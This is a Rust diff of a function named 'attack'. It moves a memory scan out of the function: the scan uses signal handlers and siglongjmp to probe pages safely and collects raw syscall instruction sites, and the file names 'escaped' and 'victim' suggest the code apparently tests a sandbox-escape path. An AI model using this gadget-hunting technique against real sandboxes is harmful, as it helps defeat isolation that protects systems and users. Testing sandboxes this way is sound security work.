@@ -2,44 +2,10 @@
 
 use std::arch::asm;
 
-use crate::try_for;
-
-extern "C" {
-    fn __sigsetjmp(env: *mut libc::c_void, save: libc::c_int) -> libc::c_int;
-    fn siglongjmp(env: *mut libc::c_void, value: libc::c_int) -> !;
-}
-static mut JUMP: [u64; 64] = [0; 64];
-
-unsafe extern "C" fn back(_: libc::c_int) {
-    siglongjmp((&raw mut JUMP).cast(), 1);
-}
-
-#[inline(never)]
-unsafe fn peek(address: u64) -> Option<u8> {
-    if __sigsetjmp((&raw mut JUMP).cast(), 1) != 0 {
-        return None;
-    }
-    Some(std::ptr::read_volatile(address as *const u8))
-}
+use crate::{stub_sites, try_for};
 
 pub unsafe fn attack(directory: &str) {
-    libc::signal(libc::SIGSEGV, back as usize);
-    libc::signal(libc::SIGBUS, back as usize);
-    let mut sites = Vec::new();
-    let mut page = 0x7000_0000_0000u64;
-    while page < 0x7000_0100_0000 {
-        let mut last = 0;
-        for at in page..page + 4096 {
-            let Some(byte) = peek(at) else { break };
-            if last == 0x0f && byte == 0x05 {
-                sites.push(at - 1);
-            }
-            last = byte;
-        }
-        page += 4096;
-    }
-    libc::signal(libc::SIGSEGV, libc::SIG_DFL);
-    libc::signal(libc::SIGBUS, libc::SIG_DFL);
+    let sites = stub_sites();
     println!("sites: {}", if sites.is_empty() { "none found" } else { "found" });
     let made = format!("{directory}/escaped\0");
     let victim = format!("{directory}/victim\0");
